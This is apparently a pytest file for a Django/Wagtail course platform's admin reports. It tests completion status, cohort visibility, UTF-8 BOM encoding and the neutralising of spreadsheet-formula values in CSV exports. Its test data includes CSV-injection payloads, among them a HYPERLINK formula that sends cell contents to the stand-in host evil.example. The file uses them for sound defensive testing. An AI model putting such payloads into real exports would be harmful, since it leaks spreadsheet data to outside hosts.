"""Reports tell the truth and exports are safe.

- A course is Completed in the reports only when the enrolment has a completion date, the one the
  learner's outline and certificate go by.
- Names and sign-ups that start like a spreadsheet formula reach CSV downloads as text.
- The Cohort column names only cohorts the viewer may see.
- CSV downloads are UTF-8 with a byte-order mark, so Excel reads "Saarijärvi" and Arabic names.
"""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from courses.models import Enrollment, LessonPage
from courses.progress import complete_step, stored_course_steps
from learners.models import Cohort, LearnerProfile, Organisation
from learners.visibility import REPORTING_STAFF
from tests.fixtures_reports import learner_in, staff_user

COMPLETION = "/admin/reports/course-completion/"
OVERVIEW = "/admin/reports/course-overview/"
BOM = b"\xef\xbb\xbf"

# OWASP's list of cell openings a spreadsheet reads as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A2)", "\tx", "\rx"]


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_table(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


def xlsx_table(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def completion_by_username(client, **params):
    rows = csv_table(client.get(COMPLETION, {**params, "export": "csv"}))
    header = rows[0]
    return {row[0].rsplit("(", 1)[1].rstrip(")"): dict(zip(header, row, strict=True)) for row in rows[1:]}


# --- 4: Completed means completed_at ------------------------------------------------------------


@pytest.mark.django_db
def test_unpublishing_the_last_step_left_shows_the_learner_completed_with_a_date(
    make_course, make_user, as_user
):
    course = make_course(lessons=2, certificate=True, slug="raportin-todistus")
    first, last = LessonPage.objects.descendant_of(course).order_by("path")
    learner = learner_in(make_user, "viimeinen", "Veera", Organisation.objects.create(name="Alfa"))
    complete_step(learner, first, course=course)
    stored_course_steps([course])
    last.unpublish()
    admin = make_user("boss", is_superuser=True, is_staff=True)
    row = completion_by_username(as_user(admin))["viimeinen"]
    assert (row["Steps done"], row["Steps in total"], row["Status"]) == ("1", "1", "Completed")
    assert row["Completed"] != ""


@pytest.mark.django_db
def test_all_steps_counted_without_a_completion_date_is_never_shown_completed(report_world, as_user):
    """The stored count may equal the total (old data, a stale count); only completed_at completes."""
    Enrollment.objects.filter(learner=report_world.chen).update(steps_done=3)
    client = as_user(report_world.admin)
    table = completion_by_username(client)
    assert (table["chen"]["Steps done"], table["chen"]["Status"]) == ("3", "In progress")
    assert "chen" not in completion_by_username(client, status="completed")
    assert "chen" in completion_by_username(client, status="in_progress")
    html = client.get(COMPLETION, {"q": "chen"}).content.decode()
    assert "(chen)" in html and "In progress" in html
    overview = csv_table(client.get(OVERVIEW, {"export": "csv"}))
    alfa = next(row for row in overview[1:] if row[1] == "Alfa")
    assert alfa[2:5] == ["3", "2", "1"]  # enrolled, in progress, completed: Aino only


# --- 7: formulas reach CSV as text --------------------------------------------------------------


@pytest.fixture
def formula_learners(report_world, make_user):
    """Learners of organisation A whose first names are formulas (last name empty)."""
    users = []
    for n, formula in enumerate(FORMULAS):
        user = learner_in(make_user, f"formula-{n}", formula, report_world.org_a)
        user.last_name = ""
        user.save()
        complete_step(user, report_world.lessons[0], course=report_world.course)
        users.append(user)
    return users


# A carriage return is stored differently by the two XLSX writers (XlsxWriter escapes it as
# _x000D_, which openpyxl does not read back; openpyxl's own file gives a line feed): XLSX checks
# compare the other formulas exactly, and every cell for a quote.
XLSX_COMPARABLE = [formula for formula in FORMULAS if "\r" not in formula]


@pytest.mark.django_db
def test_names_that_look_like_formulas_are_quoted_in_the_report_csv_and_plain_in_xlsx(
    report_world, formula_learners, as_user
):
    client = as_user(report_world.staff_a)
    table = completion_by_username(client)
    for n, formula in enumerate(FORMULAS):
        assert table[f"formula-{n}"]["Learner"] == f"'{formula}  (formula-{n})"
    assert table["aino"]["Learner"] == "Aino Testi (aino)"  # ordinary names are left alone
    assert table["aino"]["Steps done"] == "3"  # and numbers stay numbers
    # XLSX already stores them as text cells, never formulas: unchanged, no quote added.
    names = {row[0] for row in xlsx_table(client.get(COMPLETION, {"export": "xlsx"}))[1:]}
    assert {f"{formula}  (formula-{FORMULAS.index(formula)})" for formula in XLSX_COMPARABLE} <= names
    assert not [name for name in names if name.startswith("'")]


@pytest.fixture
def formula_sign_ups(peer_group):
    for n, formula in enumerate(FORMULAS):
        FormSubmission.objects.create(
            page=peer_group, form_data={"nimi": formula, "sahkoposti": f"p{n}@example.fi", "organisaatio": "Saarikka"}
        )
    return peer_group


@pytest.mark.django_db
def test_sign_ups_that_look_like_formulas_are_quoted_in_the_submissions_csv_and_plain_in_xlsx(
    formula_sign_ups, make_user, as_user
):
    client = as_user(make_user("boss", is_superuser=True, is_staff=True))
    url = f"/admin/forms/submissions/{formula_sign_ups.pk}/"
    rows = csv_table(client.get(url, {"export": "csv"}))
    names = [row[rows[0].index("Nimi")] for row in rows[1:]]
    assert sorted(names) == sorted(f"'{formula}" for formula in FORMULAS)
    assert {row[rows[0].index("Organisaatio")] for row in rows[1:]} == {"Saarikka"}
    rows = xlsx_table(client.get(url, {"export": "xlsx"}))
    names = [row[rows[0].index("Nimi")] for row in rows[1:]]
    assert set(XLSX_COMPARABLE) <= set(names) and len(names) == len(FORMULAS)
    assert not [name for name in names if name.startswith("'")]


# --- 10: the Cohort column stays in scope -------------------------------------------------------


@pytest.fixture
def cohort_of_b(report_world, make_user):
    """Chen (organisation A, cohort A2) also joined a cohort of B, whose name sorts first; Fatima
    (organisation A) is only in that cohort of B."""
    secret = Cohort.objects.create(organisation=report_world.org_b, name="A0 Beeta-salainen")
    LearnerProfile.objects.get(user=report_world.chen).cohorts.add(secret)
    fatima = learner_in(make_user, "fatima", "Fatima", report_world.org_a, secret)
    complete_step(fatima, report_world.lessons[0], course=report_world.course)
    return secret


@pytest.mark.django_db
def test_staff_never_see_the_name_of_another_organisations_cohort(report_world, cohort_of_b, as_user):
    client = as_user(report_world.staff_a)
    table = completion_by_username(client)
    assert table["chen"]["Cohort"] == "A2"
    assert table["fatima"]["Cohort"] == ""
    xlsx = xlsx_table(client.get(COMPLETION, {"export": "xlsx"}))
    html = client.get(COMPLETION).content.decode()
    assert "(fatima)" in html and "(chen)" in html
    for text in (str(table), str(xlsx), html):
        assert cohort_of_b.name not in text


@pytest.mark.django_db
def test_trainer_sees_only_their_own_cohort_and_an_admin_sees_every_cohort(report_world, cohort_of_b, as_user):
    LearnerProfile.objects.get(user=report_world.chen).cohorts.add(report_world.cohorts[0])  # A1 of the trainer
    table = completion_by_username(as_user(report_world.trainer))
    assert table["chen"]["Cohort"] == "A1"
    table = completion_by_username(as_user(report_world.admin))
    assert table["chen"]["Cohort"] == cohort_of_b.name
    assert table["fatima"]["Cohort"] == cohort_of_b.name


# --- 16: UTF-8 with a byte-order mark -----------------------------------------------------------


@pytest.mark.django_db
def test_report_csv_is_utf8_with_a_byte_order_mark(make_course, make_user, as_user):
    course = make_course(lessons=2, slug="utf8")
    learner = learner_in(make_user, "fatima-ar", "فاطمة", Organisation.objects.create(name="Saarijärvi"), language="ar")
    complete_step(learner, LessonPage.objects.descendant_of(course).first(), course=course)
    staff = staff_user(make_user, "staff-saarijarvi", REPORTING_STAFF, organisations=Organisation.objects.all())
    response = as_user(staff).get(COMPLETION, {"export": "csv"})
    content = body(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert content.startswith(BOM) and not content[len(BOM):].startswith(BOM)
    row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1]
    assert row[0] == "فاطمة Testi (fatima-ar)"
    assert row[1] == "Saarijärvi"
    assert row[3] == "العربية"


@pytest.mark.django_db
def test_submissions_csv_is_utf8_with_a_byte_order_mark(peer_group, make_user, as_user):
    FormSubmission.objects.create(
        page=peer_group, form_data={"nimi": "فاطمة", "sahkoposti": "f@example.fi", "organisaatio": "Saarijärvi"}
    )
    admin = make_user("boss", is_superuser=True, is_staff=True)
    response = as_user(admin).get(f"/admin/forms/submissions/{peer_group.pk}/", {"export": "csv"})
    content = body(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert content.startswith(BOM)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0][0] != "" and not rows[0][0].startswith("\ufeff")
    assert rows[1][rows[0].index("Nimi")] == "فاطمة"
    assert rows[1][rows[0].index("Organisaatio")] == "Saarijärvi"
